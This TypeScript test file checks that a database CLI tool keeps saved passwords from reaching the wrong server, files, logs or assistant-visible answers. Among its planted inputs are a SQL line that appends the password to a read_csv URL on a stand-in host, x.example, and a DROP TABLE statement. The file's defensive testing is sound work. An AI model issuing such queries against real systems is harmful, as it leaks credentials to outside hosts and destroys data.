import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { argumentListsWith, findPlanted } from '../support/find-planted.ts';
import { type PasswordListener, startPasswordListener } from '../support/password-listener.ts';
import { connect, freshHome, hydrant, rawServer, type Session } from '../support/process.ts';

// A saved password goes to no server but the one it was given for, and into no file.

const PASSWORD = "Pl@nted/'Horse'+Battery=Staple%77";
const PASSPHRASE = 'Planted vault passphrase 4711';

let home: string;
let temp: string;
let right: PasswordListener;
let wrong: PasswordListener;
let env: Record<string, string>;

beforeEach(async () => {
  home = freshHome();
  temp = mkdtempSync(join(tmpdir(), 'hydrant-temp-'));
  env = { HYDRANT_SECRETS: 'vault', HYDRANT_VAULT_PASSPHRASE: PASSPHRASE, TMPDIR: temp };
  [right, wrong] = await Promise.all([startPasswordListener(), startPasswordListener()]);
});
afterEach(() => Promise.all([right.close(), wrong.close()]));

const run = (args: readonly string[], input = '') => hydrant(home, args, { env, input });
const addressOf = (listener: PasswordListener, more = '') =>
  `postgres://reader:${encodeURIComponent(PASSWORD)}@127.0.0.1:${listener.port}/shop?sslmode=disable${more}`;
const save = () => expect(run(['profiles', 'add', 'pg', '--address', '-'], addressOf(right)).code).toBe(0);
const ask = (...args: string[]) => run(['query', ...(args.length > 0 ? args : ['-p', 'pg']), '--json', 'SELECT 1']);
const codeOf = (ran: { out: string }) => (JSON.parse(ran.out) as { error?: { code: string } }).error?.code;

const profilesFile = () => join(home, 'profiles.json');
const edit = (change: (profile: Record<string, Record<string, unknown>>) => void): void => {
  const content = JSON.parse(readFileSync(profilesFile(), 'utf8')) as { profiles: Record<string, Record<string, unknown>>[] };
  for (const profile of content.profiles) change(profile);
  writeFileSync(profilesFile(), JSON.stringify(content));
};
const exported = (profile: Record<string, unknown>): string => {
  const file = join(temp, 'team.json');
  const connection = { host: '127.0.0.1', port: wrong.port, database: 'shop', user: 'reader', tls: { mode: 'disable' } };
  const auth = { method: 'password', password: 'secret:pg/password' };
  const whole = { id: 'pg', name: 'pg', engine: 'postgres', connection, auth, ...profile };
  writeFileSync(file, JSON.stringify({ hydrant: 'profiles', version: 1, profiles: [whole] }));
  return file;
};

describe('a saved password goes to no server but the one it was given for', () => {
  beforeEach(() => {
    save();
    expect(codeOf(ask())).toBe('LOGIN_FAILED');
    expect(right.passwords()).toEqual([PASSWORD]);
  });
  afterEach(() => {
    const sent = new Map([['the other server', wrong.received().toString('latin1')]]);
    expect(wrong.passwords()).toEqual([]);
    expect(findPlanted([PASSWORD], sent, [home])).toEqual([]);
  });

  test.each<[string, (profile: Record<string, Record<string, unknown>>) => void]>([
    ['port', ({ connection }) => Object.assign(connection ?? {}, { port: wrong.port })],
    ['host', ({ connection }) => Object.assign(connection ?? {}, { host: 'localhost', port: wrong.port })],
    ['host alone', ({ connection }) => Object.assign(connection ?? {}, { host: 'localhost' })],
    ['user', ({ connection }) => Object.assign(connection ?? {}, { user: 'postgres' })],
    ['socket folder', ({ connection }) => Object.assign(connection ?? {}, { host: '/tmp' })],
    [
      'tunnel',
      ({ connection }) => Object.assign(connection ?? {}, { via: 'ssh', ssh: { host: '127.0.0.1', port: wrong.port, user: 'reader' } }),
    ],
    ['id', (profile) => Object.assign(profile, { id: 'pg', connection: { ...profile.connection, port: wrong.port } })],
  ])('profiles.json edited by hand: %s', (_, change) => {
    const before = right.connections();
    edit(change);
    const refused = ask();
    expect(codeOf(refused)).toBe('SECRET_ELSEWHERE');
    expect(refused.out).toContain(`given for reader at 127.0.0.1:${right.port}`);
    expect(right.connections()).toBe(before);
  });

  test('a connection test, and an assistant, of a profile that was edited', async () => {
    edit(({ connection }) => Object.assign(connection ?? {}, { port: wrong.port }));
    const tested = run(['test-connection', '-p', 'pg']);
    expect(tested.out).toContain('The saved password was given for reader at');
    const session = await connect(['-p', 'pg'], { home, env });
    expect((await session.call('execute_query', { sql: 'SELECT 1' })).code).toBe('SECRET_ELSEWHERE');
    expect((await session.call('test_connection')).text).toContain('The saved password was given for');
    await session.close();
  });

  test('a configuration file that refers to the secret of another profile, or takes its id', () => {
    for (const id of ['pg', 'evil']) {
      const file = join(temp, `${id}.toml`);
      const connection = `{ host = "127.0.0.1", port = ${wrong.port}, database = "shop", user = "reader", tls = { mode = "disable" } }`;
      const auth = '{ method = "password", password = "secret:pg/password" }';
      writeFileSync(file, `[profiles.${id}]\nengine = "postgres"\nconnection = ${connection}\nauth = ${auth}\n`);
      expect(codeOf(ask('--config', file, '-p', id))).toBe('SECRET_ELSEWHERE');
    }
  });

  test('removed, and another one of its id imported or added', () => {
    expect(run(['profiles', 'remove', 'pg']).code).toBe(0);
    expect(run(['secrets', 'check', 'pg/password']).code).not.toBe(0);
    expect(run(['profiles', 'import', exported({})]).out).toContain('Still needed: secret:pg/password');
    expect(codeOf(ask())).toBe('SECRET_MISSING');
  });

  test('removed but kept when told, and another one of its id imported; then given anew', () => {
    expect(run(['profiles', 'remove', 'pg', '--keep-secrets']).out).toContain('pg/password');
    run(['profiles', 'import', exported({})]);
    expect(codeOf(ask())).toBe('SECRET_ELSEWHERE');
    run(['profiles', 'remove', 'pg', '--keep-secrets']);
    const file = exported({});
    const { profiles } = JSON.parse(readFileSync(file, 'utf8')) as { profiles: unknown[] };
    expect(run(['profiles', 'add', 'pg', '--from', '-'], JSON.stringify(profiles[0])).code).toBe(0);
    expect(codeOf(ask())).toBe('SECRET_ELSEWHERE');
    expect(run(['secrets', 'set', 'pg/password'], 'for-the-other').out).toContain(`reader at 127.0.0.1:${wrong.port}`);
    expect(codeOf(ask())).toBe('LOGIN_FAILED');
    expect(wrong.passwords().splice(0)).toEqual(['for-the-other']);
    // What it was sent was meant for it.
    wrong.passwords = () => [];
  });

  test('replaced by an import', () => {
    run(['profiles', 'import', exported({}), '--on-conflict', 'replace']);
    // It comes without the reference; the same by hand.
    edit((profile) => Object.assign(profile, { auth: { method: 'password', password: 'secret:pg/password' } }));
    expect(codeOf(ask())).toBe('SECRET_ELSEWHERE');
  });

  test('an add that fails because the id is taken changes no secret', () => {
    const other = addressOf(wrong).replace(encodeURIComponent(PASSWORD), 'overwritten');
    expect(run(['profiles', 'add', 'pg', '--address', '-'], other).err).toContain('PROFILE_EXISTS');
    ask();
    expect(right.passwords().at(-1)).toBe(PASSWORD);
  });

  test('the passphrase of the vault is no password of a server', () => {
    for (const reference of ['env:HYDRANT_VAULT_PASSPHRASE', 'env:hydrant_vault_passphrase']) {
      edit(({ connection, ...profile }) => {
        Object.assign(connection ?? {}, { port: wrong.port });
        Object.assign(profile.auth ?? {}, { password: reference });
      });
      expect(codeOf(ask())).toBe('PROFILE_INVALID');
    }
    expect(wrong.received().toString('latin1')).not.toContain(PASSPHRASE);
  });
});

/** What an assistant may send; the password stands in it, and never in an answer that is data. */
const statements = (secret: string): string[] => {
  const literal = secret.replaceAll("'", "''");
  return [
    `SELECT count(*) AS n FROM orders WHERE status = '${literal}'`,
    `SELECT count(*) AS n FROM orders -- ${secret.replaceAll('\n', ' ')}`,
    `DROP TABLE "${secret.replaceAll('"', '')}"`,
    `SELECT nothing_here, '${literal}' FROM orders`,
    `SELECT length('${literal}') FROM orders`,
    `SELEC '${literal}'`,
    `SELECT count(*) AS n FROM orders WHERE status = decode('${Buffer.from(secret).toString('base64')}')`,
    `SELECT count(*) AS n FROM read_csv('https://x.example/?q=${encodeURIComponent(secret)}')`,
  ];
};

describe('a saved password that a caller types is in no file', () => {
  test.each(statements(PASSWORD).map((sql, index) => [index, sql] as const))('in the first statement of a process (%i)', async (_, sql) => {
    save();
    const session = await connect(['-p', 'sample', '-p', 'pg'], { home, env });
    await session.call('execute_query', { sql });
    await session.close();
    expect(findPlanted([PASSWORD], new Map([['answers', session.received()]]), [home, temp])).toEqual([]);
    const { out } = run(['history', '--json']);
    expect(out).toContain('•••');
  });

  test('wherever else it is typed, one process each', async () => {
    save();
    run(['profiles', 'add', 'sales', '--sample', 'prod', '--policy', 'approve-writes']);
    const tell = new Map<string, string>();
    const typed: [string, (session: Session) => Promise<unknown>][] = [
      ['explain_query', (session) => session.call('explain_query', { sql: `SELECT '${PASSWORD.replaceAll("'", "''")}'` })],
      ['environment', (session) => session.call('execute_query', { sql: 'SELECT 1', environment: PASSWORD })],
      ['pattern', (session) => session.call('search_objects', { pattern: PASSWORD })],
      ['handle', (session) => session.call('get_result', { handle: PASSWORD })],
      ['argument', (session) => session.call('execute_query', { sql: 'SELECT 1', [PASSWORD]: PASSWORD })],
      [
        'parameters',
        (session) => session.call('execute_query', { sql: 'SELECT count(*) FROM orders WHERE status = ?', parameters: [PASSWORD] }),
      ],
      ['a change', (session) => session.call('execute_query', { sql: `UPDATE orders SET status = '${PASSWORD.replaceAll("'", "''")}'` })],
      ['resource', (session) => session.client.readResource({ uri: `hydrant://${encodeURIComponent(PASSWORD)}/x` }).catch(String)],
      ['prompt', (session) => session.client.getPrompt({ name: 'explore_warehouse', arguments: { environment: PASSWORD } }).catch(String)],
    ];
    for (const [name, type] of typed) {
      const session = await connect(['-p', 'sales', '-p', 'pg'], {
        home,
        env: { ...env, HYDRANT_APPROVAL_WAIT: '0' },
        name: `client ${PASSWORD}`,
      });
      const answered = type(session);
      expect(argumentListsWith([PASSWORD, PASSPHRASE])).toEqual([]);
      tell.set(name, JSON.stringify(await answered));
      await session.call('execute_query', { sql: 'SELECT 1 AS one' });
      await session.close();
    }
    // A message that is no JSON comes back in the words of the parser.
    const raw = rawServer(['-p', 'sales', '-p', 'pg'], home);
    raw.child.stdin?.write(`{"jsonrpc":"2.0", ${PASSWORD}\n`);
    await expect.poll(raw.err, { timeout: 10_000 }).toContain('protocol');
    raw.child.kill();
    tell.set('standard error', raw.err());
    const requests = JSON.parse(run(['approvals', 'list', '--json', '--state', 'all']).out) as { requests: { id: string }[] };
    tell.set('denied', run(['approvals', 'deny', requests.requests[0]?.id ?? '', '--reason', `not ${PASSWORD}`, '--json']).out);
    tell.set('approvals', run(['approvals', 'list', '--json', '--state', 'all']).out);
    tell.set('history', run(['history', '--json']).out);
    expect(findPlanted([PASSWORD, PASSPHRASE], tell, [home, temp])).toEqual([]);
  });

  test('nor where the secret store cannot be read: the text is withheld, and a change is not put before a person', async () => {
    save();
    run(['profiles', 'add', 'sales', '--sample', 'prod', '--policy', 'approve-writes']);
    const locked = { ...env, HYDRANT_VAULT_PASSPHRASE: 'a wrong passphrase', HYDRANT_APPROVAL_WAIT: '0' };
    const session = await connect(['-p', 'sales', '-p', 'pg'], { home, env: locked });
    for (const sql of statements(PASSWORD)) await session.call('execute_query', { sql });
    const literal = PASSWORD.replaceAll("'", "''");
    const asked = await session.call('execute_query', { sql: `UPDATE orders SET status = '${literal}'` });
    expect(asked.code).toMatch(/^SECRET_STORE_/);
    await session.close();
    expect(findPlanted([PASSWORD], new Map(), [home, temp])).toEqual([]);
    expect(run(['history', '--json']).out).toContain('[withheld: ');
    expect((JSON.parse(run(['approvals', 'list', '--json', '--state', 'all']).out) as { requests: unknown[] }).requests).toEqual([]);
  });

  test('what an assistant asks before it works wakes no secret store', async () => {
    save();
    writeFileSync(join(home, 'secrets', 'vault.json'), 'damaged');
    const session = await connect(['-p', 'sample', '-p', 'pg'], { home, env });
    expect((await session.client.listTools()).tools.length).toBeGreaterThan(7);
    expect((await session.call('list_environments')).isError).toBe(false);
    await session.close();
  });
});

describe('a password in a file or on a command line', () => {
  const secret = 'In-a-file-Horse/77';

  test.each<[string, () => ReturnType<typeof run>]>([
    ['an import with an address', () => run(['profiles', 'import', exported({ name: `postgres://u:${secret}@h/d` })])],
    [
      'an import with a value for a reference',
      () => run(['profiles', 'import', exported({ auth: { method: 'password', password: secret } })]),
    ],
    ['an address among the arguments', () => run(['profiles', 'add', 'x', '--address', `postgres://u:${secret}@h/d`])],
    [
      'a command login with a password',
      () => run(['profiles', 'import', exported({ auth: { method: 'command', command: `x --password=${secret}` } })]),
    ],
    [
      'a profile as JSON',
      () =>
        run(
          ['profiles', 'add', 'x', '--from', '-'],
          JSON.stringify({ name: 'x', engine: 'duckdb', connection: { form: 'file', path: `postgres://u:${secret}@h/d` } }),
        ),
    ],
    [
      'a configuration',
      () => {
        const file = join(temp, 'c.toml');
        writeFileSync(
          file,
          `[profiles.x]\nengine = "postgres"\npassword = "${secret}"\nconnection = { host = "h", database = "d", user = "u" }\n`,
        );
        return run(['query', '--config', file, '-p', 'x', 'SELECT 1']);
      },
    ],
  ])('%s is refused without being repeated', (_, attack) => {
    const { code, out, err } = attack();
    expect(code).not.toBe(0);
    expect(findPlanted([secret], new Map([['printed', out + err]]), [home])).toEqual([]);
  });

  test('profiles.json with a password written into it by hand: it is not copied, shown or used', () => {
    mkdirSync(home, { recursive: true });
    save();
    edit((profile) => Object.assign(profile, { auth: { method: 'password', password: secret } }));
    const told = [run(['profiles', 'list', '--json']), run(['profiles', 'show', 'pg']), run(['profiles', 'export']), run(['doctor'])];
    run(['profiles', 'add', 'more', '--sample', 'dev']);
    const refused = ask();
    told.push(refused, run(['profiles', 'list', '--json']));
    const printed = new Map([['printed', told.map(({ out, err }) => out + err).join('\n')]]);
    const files = findPlanted([secret], printed, [home]).filter((place) => !place.startsWith(`${profilesFile()}:`));
    expect(files).toEqual([]);
    expect(right.passwords()).toEqual([]);
  });
});
